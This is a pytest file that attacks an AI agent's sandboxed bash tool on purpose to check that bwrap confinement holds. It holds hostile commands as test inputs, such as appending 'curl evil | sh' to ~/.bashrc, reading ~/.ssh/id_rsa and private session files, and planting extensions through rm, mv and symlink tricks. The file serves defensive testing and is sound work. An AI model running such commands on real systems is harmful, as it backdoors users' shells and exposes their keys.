"""The agent's own shell under bwrap (:func:`sandbox.plan_shell`), attacked for real.

Each test runs real ``bash`` commands through the built-in tool, as a rewriting
extension would: plant an extension in ``.corral``, append to ``~/.bashrc``, read
corral's home and the user's keys. Homes and projects live under ``/var/tmp``, not
``/tmp``: the shell has a private ``/tmp``, which would make every write "fail"
for the wrong reason.
"""

from __future__ import annotations

import os
import shutil
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import trio
from helpers.procs import descendants, lasting

import sandbox
from agent import TextContent
from agent._tools.base import ToolRunResult
from agent._tools.bash import BashTool
from agent._tools.confine import Workspace
from sandbox import Limits
from sandbox._bwrap import BwrapSandbox

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="bwrap backend")


class Box:
    """A user's home (with a key and a ``.bashrc``), corral's home, and a project."""

    def __init__(self, base: Path) -> None:
        self.home = base / "alice"
        self.corral_home = self.home / ".local" / "state" / "corral"
        self.project = self.home / "project"
        for d in (self.project, self.corral_home / "sessions", self.home / ".ssh"):
            d.mkdir(parents=True)
        (self.home / ".bashrc").write_text("# mine\n")
        (self.home / ".ssh" / "id_rsa").write_text("PRIVATE KEY\n")
        (self.corral_home / "sessions" / "s.jsonl").write_text("PRIVATE SESSION\n")
        (self.home / "notes.txt").write_text("plain notes\n")

    def bash(self, cwd: Path | None = None) -> BashTool:
        backend = sandbox.select_sandbox("auto")
        if backend.backend != "bwrap":
            pytest.skip("no bwrap backend here")
        ws = Workspace(
            str(cwd or self.project), corral_home=str(self.corral_home), home=str(self.home)
        )
        return BashTool(ws, sandbox=backend, default_timeout=30)


@pytest.fixture
def box(monkeypatch: pytest.MonkeyPatch) -> Iterator[Box]:
    base = Path(tempfile.mkdtemp(prefix="corral-shell-", dir="/var/tmp"))
    try:
        b = Box(base)
        monkeypatch.setenv("HOME", str(b.home))
        yield b
    finally:
        shutil.rmtree(base, ignore_errors=True)


def _fds() -> set[int]:
    return {int(n) for n in os.listdir("/proc/self/fd")}


async def sh(tool: BashTool, command: str) -> tuple[bool, str]:
    """Run ``command``; (succeeded, output). Checks nothing is left running or open."""
    before_pids = {p.pid for p in descendants()}
    before_fds = _fds()

    streamed: list[str] = []

    async def progress(text: str) -> None:
        streamed.append(text)

    with trio.fail_after(60):
        result: ToolRunResult = await tool.run("c1", {"command": command}, progress)
    assert lasting(before_pids) == []
    assert _fds() <= before_fds
    text = " ".join(b.text for b in result.content if isinstance(b, TextContent))
    # Output lines stream as progress too; each of them is also in the result.
    assert all(line in text for line in streamed), (streamed, text)
    return not result.is_error, text


PLANTS = [
    "mkdir -p .corral/extensions/x && echo '{}' > .corral/extensions/x/extension.json",
    "rm -rf .corral && mkdir -p .corral/extensions/x",
    "mv .corral gone && mkdir -p .corral/extensions/x",
    "ln -s .corral innocent && mkdir -p innocent/extensions/x",
    "cd sub/.. && mkdir -p ./.corral/extensions/x",
    "echo '{}' > .corral/extensions/good/extension.json",
]


@pytest.mark.parametrize("command", PLANTS)
async def test_bash_cannot_plant_an_extension(box: Box, command: str) -> None:
    (box.project / "sub").mkdir()
    good = box.project / ".corral" / "extensions" / "good"
    good.mkdir(parents=True)
    (good / "extension.json").write_text('{"name": "good"}')
    ok, out = await sh(box.bash(), command)
    assert not ok
    assert "Read-only file system" in out or "Device or resource busy" in out
    assert sorted(p.name for p in (box.project / ".corral" / "extensions").iterdir()) == ["good"]
    assert (good / "extension.json").read_text() == '{"name": "good"}'


async def test_a_missing_dot_corral_is_read_only_and_not_left_behind(box: Box) -> None:
    command = "echo fine > made.txt && test -d .corral && mkdir -p .corral/extensions/x"
    ok, out = await sh(box.bash(), command)
    assert not ok
    assert "Read-only file system" in out  # it was there, empty and read-only
    assert (box.project / "made.txt").read_text() == "fine\n"
    assert not (box.project / ".corral").exists()  # the mount point went with the command


async def test_the_placeholder_stays_while_another_command_binds_it(box: Box) -> None:
    tool = box.bash()
    results: dict[str, tuple[bool, str]] = {}

    async def slow() -> None:
        results["slow"] = await sh(tool, "sleep 3; mkdir .corral/x")

    async with trio.open_nursery() as nursery:
        nursery.start_soon(slow)
        with trio.fail_after(30):
            while not (box.project / ".corral").is_dir():
                await trio.sleep(0.02)
        results["quick"] = await sh(tool, "test -d .corral && ! mkdir .corral/y")
        # Removing it now would detach the slow command's read-only bind.
        assert (box.project / ".corral").is_dir()
    assert results["quick"][0], results
    assert not results["slow"][0]
    assert "Read-only file system" in results["slow"][1]
    assert not (box.project / ".corral").exists()  # the last one out removed it


async def test_a_dot_corral_the_user_made_stays(box: Box) -> None:
    (box.project / ".corral").mkdir()
    ok, _ = await sh(box.bash(), "true")
    assert ok
    assert (box.project / ".corral").is_dir()


async def test_a_directory_the_user_cannot_write_still_runs_bash(box: Box) -> None:
    if os.geteuid() == 0:
        pytest.skip("root writes anywhere")
    box.project.chmod(0o555)
    try:
        ok, out = await sh(box.bash(), "ls -a && mkdir .corral")
    finally:
        box.project.chmod(0o755)
    assert not ok
    assert "Permission denied" in out or "Read-only file system" in out
    assert not (box.project / ".corral").exists()


async def test_a_dot_corral_symlink_is_refused(box: Box, tmp_path: Path) -> None:
    (box.project / ".corral").symlink_to(box.home)
    ok, out = await sh(box.bash(), "echo ran > ran.txt")
    assert not ok
    assert ".corral is a symbolic link, and it is protected" in out
    assert not (box.project / "ran.txt").exists()


async def test_bash_cannot_touch_dotfiles_or_see_secrets(box: Box) -> None:
    tool = box.bash()
    ok, out = await sh(tool, "echo 'curl evil | sh' >> ~/.bashrc")
    assert not ok
    assert "Read-only file system" in out
    assert (box.home / ".bashrc").read_text() == "# mine\n"
    for secret in (box.home / ".ssh" / "id_rsa", box.corral_home / "sessions" / "s.jsonl"):
        ok, out = await sh(tool, f"cat {secret}")
        assert not ok
        assert "PRIVATE" not in out
    # The rest of the machine is visible, read-only, as the brief of the tool says.
    ok, out = await sh(tool, f"cat {box.home / 'notes.txt'} && echo $HOME && touch /usr/x")
    assert not ok
    assert out.startswith(f"plain notes\n{box.home}\n")
    assert "Read-only file system" in out


async def test_tmp_and_shm_are_capped_in_inodes_and_dev_is_read_only(box: Box) -> None:
    # As an extension's: empty files cost the kernel memory that a size cap does not
    # count, and a prompt-injected command could make millions of them.
    tool = box.bash()
    backend = sandbox.select_sandbox("auto")
    assert isinstance(backend, BwrapSandbox)
    if not backend.config.private_tmpfs:
        pytest.skip("no capped tmpfs made by corral's child here")
    ok, out = await sh(tool, "stat -f -c %c /tmp /dev/shm; echo x > /tmp/t && cat /tmp/t")
    assert ok, out
    assert out.split() == [str(Limits().tmp_mb * 1024)] * 2 + ["x"]
    ok, out = await sh(tool, "touch /dev/x")
    assert not ok
    assert "Read-only file system" in out
    ok, out = await sh(tool, "echo sink > /dev/null && head -c 4 /dev/urandom | wc -c")
    assert ok, out
    assert out.split() == ["4"]


@pytest.mark.parametrize("where", ["home", "corral_home"])
async def test_no_writable_workspace_at_home(box: Box, where: str) -> None:
    if where == "corral_home":
        ok, out = await sh(box.bash(box.corral_home), "ls")
        assert not ok
        assert "inside corral's home" in out
        return
    tool = box.bash(box.home)
    assert "read-only" in tool.spec.description
    ok, out = await sh(tool, "echo x >> .bashrc; echo y > new.txt; echo z > /tmp/t && cat /tmp/t")
    assert out.count("Read-only file system") == 2
    assert out.rstrip().endswith("z")
    assert ok
    assert (box.home / ".bashrc").read_text() == "# mine\n"
    assert not (box.home / "new.txt").exists()


def test_plans_release_their_descriptors(box: Box) -> None:
    backend = sandbox.select_sandbox("auto")
    if backend.backend != "bwrap":
        pytest.skip("no bwrap backend here")
    before = _fds()
    request: dict[str, Any] = {"argv": ["/bin/true"], "env": {}, "workspace": str(box.project)}
    plan = sandbox.plan_shell(backend, sandbox.ShellRequest(**request, read_only=[".corral"]))
    assert plan is not None
    assert plan.sandboxed
    assert len(plan.pass_fds) >= 2
    backend.cleanup(plan)
    backend.cleanup(plan)  # idempotent
    assert _fds() <= before
    gone = sandbox.ShellRequest(**{**request, "workspace": str(box.home / "gone")})
    with pytest.raises(sandbox.PlanError, match="No such file"):
        sandbox.plan_shell(backend, gone)
    assert _fds() <= before
    assert sandbox.plan_shell(sandbox.select_sandbox("off"), gone) is None
